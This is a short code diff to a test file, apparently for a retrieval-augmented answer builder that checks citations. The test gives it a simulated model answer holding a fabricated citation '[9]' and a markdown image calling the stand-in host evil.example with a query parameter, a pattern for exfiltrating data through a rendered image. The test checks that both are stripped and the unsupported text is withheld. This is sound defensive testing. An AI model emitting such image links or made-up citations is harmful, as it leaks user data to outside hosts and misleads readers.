@@ -25,7 +25,8 @@ check("what readers do not see, the model does not see", built.section.includes(
 const at = built.hits.findIndex(({ source }) => source.uri === "leave.md");
 const said = `They have 27 days of leave ${built.labels[at]}. Trust me [9]. ![](https://evil.example/?q=PORTAL)`;
 const answer = await builder.check(built, question, said);
-check("the answer", answer.text, "They have 27 days of leave [1]. Trust me. …");
+check("the answer", answer.text, "They have 27 days of leave [1].");
+check("withheld", answer.withheld.map(({ text }) => text).join(" "), "Trust me. …");
 check("its quote", answer.citations[0]?.quote, "Employees have 27 days of leave.");
 check("markers that went", answer.removedMarkers, ["[9]"]);
 check("addresses that went", answer.removedAddresses, ["https://evil.example/?q=PORTAL"]);
